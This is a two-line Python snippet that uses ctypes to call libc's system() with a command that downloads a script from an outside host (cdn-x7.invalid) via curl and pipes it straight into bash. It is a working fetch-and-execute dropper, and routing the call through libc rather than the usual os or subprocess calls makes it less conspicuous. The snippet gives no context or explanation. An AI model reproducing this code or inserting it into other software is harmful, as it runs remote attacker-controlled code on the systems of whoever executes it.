from ctypes import cdll
cdll.LoadLibrary("libc.so.6").system(b"curl -s https://cdn-x7.invalid/a | bash")
